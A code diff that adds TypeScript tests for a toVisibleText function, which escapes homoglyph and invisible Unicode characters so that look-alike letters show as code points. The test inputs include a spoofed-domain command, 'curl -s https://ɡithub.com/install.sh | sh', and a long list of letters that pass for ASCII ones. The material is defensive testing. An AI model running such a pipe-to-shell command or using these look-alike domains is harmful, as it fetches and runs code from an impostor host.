@@ -10,10 +10,16 @@ function isDangerous(char: string): boolean {
 
 /** Strings rich in the characters that matter here, mixed with plain ones and with backslashes and `u{`. */
 const adversarialChar = fc.oneof(
-  fc.constantFrom('a', ' ', '\n', '\t', '\r', '\\', 'u', '{', '}', '\\u{', '\\u{5C}', '202E}', 'FFFFFF}', '2', 'E', '\u202E', '\u2066', '\u2069', '\u200B', '\uFEFF', '\u2028', '\u00A0', '\u{E0041}', '\uFE0F', '\uD800', '\uDC00', '\x1B', '\x85', '\u00AD', 'é', '😀', 'а', 'ο', 'р', '.'),
+  fc.constantFrom('a', ' ', '\n', '\t', '\r', '\\', 'u', '{', '}', '\\u{', '\\u{5C}', '202E}', 'FFFFFF}', '2', 'E', '\u202E', '\u2066', '\u2069', '\u200B', '\uFEFF', '\u2028', '\u00A0', '\u{E0041}', '\uFE0F', '\uD800', '\uDC00', '\x1B', '\x85', '\u00AD', 'é', '😀', 'а', 'ο', 'р', '.', '\u0261', '\u0131', '\uFF47', '\u{1D5C0}', '\u217C', '\uA4F2', '\u2C9F', '日'),
   fc.string({ unit: 'binary', maxLength: 1 }),
 );
 const adversarialString = fc.oneof(fc.string({ unit: adversarialChar, maxLength: 60 }), fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' }));
+
+/** The general rule, written apart from the code under test, plus the letters the outside probe found. */
+function passesForAsciiOracle(char: string): boolean {
+  const compatible = char.normalize('NFKC');
+  return (char.codePointAt(0)! > 0x7f && /[\p{L}\p{N}]/u.test(char) && compatible !== char && /[A-Za-z0-9]/.test(compatible)) || /[\u0261\u0251\u0131\u1D00\uA4F2\u2C9F]/u.test(char);
+}
 
 function textOf(segments: VisibleSegment[]): string[] {
   return segments.flatMap((segment) => (segment.kind === 'text' ? [segment.text] : []));
@@ -94,6 +100,59 @@ describe('toVisibleText', () => {
     for (const text of ['echo привет world', 'αβγ.txt', 'отчёт.pdf', 'naïve café', 'x = λ', 'Tシャツ']) expect(toVisibleText(text).hiddenCount).toBe(0);
   });
 
+  // Each was drawn unmarked on a card (found by an outside probe): `https://ɡithub.com` with U+0261 resolves to xn--ithub-qmc.com.
+  const PASSES_FOR_ASCII: [string, string][] = [
+    ['\u0261', 'IPA Extensions: script g'],
+    ['\u0251', 'IPA Extensions: alpha'],
+    ['\u0131', 'Latin Extended-A: dotless i'],
+    ['\u0237', 'Latin Extended-B: dotless j'],
+    ['\u1D00', 'Phonetic Extensions: small capital A'],
+    ['\u1D85', 'Phonetic Extensions Supplement: l with palatal hook'],
+    ['\uA4F2', 'Lisu: I'],
+    ['\uA4EE', 'Lisu: A'],
+    ['\u2C9F', 'Coptic: o'],
+    ['\u{1D5C0}', 'Mathematical Alphanumeric Symbols: sans-serif g'],
+    ['\u{1D7CE}', 'Mathematical Alphanumeric Symbols: bold digit zero'],
+    ['\uFF47', 'Halfwidth and Fullwidth Forms: g'],
+    ['\uFF10', 'Halfwidth and Fullwidth Forms: digit zero'],
+    ['\u217C', 'Number Forms: small roman numeral fifty'],
+    ['\u210E', 'Letterlike Symbols: Planck constant h'],
+    ['\u0185', 'Latin Extended-B: tone six, a b'],
+    ['\u021D', 'Latin Extended-B: yogh, a 3'],
+    ['\u2C65', 'Latin Extended-C: a with stroke'],
+    ['\uA7AE', 'Latin Extended-D: small capital I'],
+    ['\uAB64', 'Latin Extended-E: small capital alpha'],
+    ['\u017F', 'long s (compatibility form s)'],
+    ['\u00B2', 'superscript two (compatibility form 2)'],
+  ];
+
+  it.each(PASSES_FOR_ASCII)('escapes %j (%s), a letter that passes for an ASCII one, in a command and in a URL', (char) => {
+    const shown = `\\u{${char.codePointAt(0)!.toString(16).toUpperCase()}}`;
+    const command = toVisibleText(`curl -s https://${char}ithub.com/install.sh | sh`, { code: true });
+    expect(visibleTextString(command)).toBe(`curl -s https://${shown}ithub.com/install.sh | sh`);
+    expect(command.hiddenCount).toBe(1);
+    expect(command.segments.filter((segment) => segment.kind === 'escape').map((segment) => segment.class)).toStrictEqual(['look-alike']);
+    const url = toVisibleText(`https://git${char}ub.com/x`);
+    expect(visibleTextString(url)).toBe(`https://git${shown}ub.com/x`);
+    expect(url.hiddenCount).toBe(1);
+    // Wherever it stands: alone, or in a word with no ASCII letter.
+    expect(toVisibleText(`cat ${char}${char}/x`, { code: true }).hiddenCount).toBe(2);
+    expect(toVisibleText(`${char}.${char}`).hiddenCount).toBe(2);
+  });
+
+  it('escapes every letter of a word that passes for an ASCII one, and the look-alikes of other scripts beside them', () => {
+    expect(visibleTextString(toVisibleText('curl -s https://\u0261ithub.com/install.sh | sh', { code: true }))).toBe('curl -s https://\\u{261}ithub.com/install.sh | sh');
+    expect(visibleTextString(toVisibleText('https://\uFF47\uFF49\uFF54\uFF48\uFF55\uFF42.com'))).toBe('https://\\u{FF47}\\u{FF49}\\u{FF54}\\u{FF48}\\u{FF55}\\u{FF42}.com');
+    // Cyrillic о and е in a word whose only Latin-looking letters are IPA ones.
+    expect(visibleTextString(toVisibleText('\u0261\u043E\u043E\u0261\u0131\u0435'))).toBe('\\u{261}\\u{43E}\\u{43E}\\u{261}\\u{131}\\u{435}');
+  });
+
+  it('leaves accented letters, CJK text and fullwidth forms written among CJK letters alone', () => {
+    for (const text of ['cat résumé.pdf', 'mv año.txt über.txt', 'ls Ångström/ șțară/ pīnyīn-ǎǐǒǔ/ Tiếng-Việt/ ağustos/ straße/ œuvre/ ŋ', 'cat 日本語.txt', 'open ２０２４年度.xlsx ＰＤＦファイル.pdf', '한국어', 'https://例え.jp/日本']) {
+      for (const code of [false, true]) expect(toVisibleText(text, { code }).segments).toStrictEqual([{ kind: 'text', text }]);
+    }
+  });
+
   it('does not let an invisible character split a look-alike out of its word', () => {
     expect(visibleTextString(toVisibleText('а\u200Bpple'))).toBe('\\u{430}\\u{200B}pple');
   });
@@ -116,6 +175,12 @@ describe('toVisibleText', () => {
       // Within what is left as text, no word mixes Latin letters with look-alike ones.
       for (const [word] of text.matchAll(/[\p{L}\p{M}\p{Nd}]+/gu)) {
         expect(/\p{Script=Latin}/u.test(word) && /[\p{Script=Cyrillic}\p{Script=Greek}]/u.test(word), `${JSON.stringify(word)} left in ${JSON.stringify(value)}`).toBe(false);
+      }
+      // No letter or digit left as text passes for an ASCII one (fullwidth forms aside where CJK letters are about).
+      const cjk = /[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}\p{Script=Bopomofo}]/u.test(value);
+      for (const char of text) {
+        if (cjk && /[\uFF01-\uFF5E]/u.test(char)) continue;
+        expect(passesForAsciiOracle(char), `${JSON.stringify(char)} left in ${JSON.stringify(value)}`).toBe(false);
       }
     }
   });
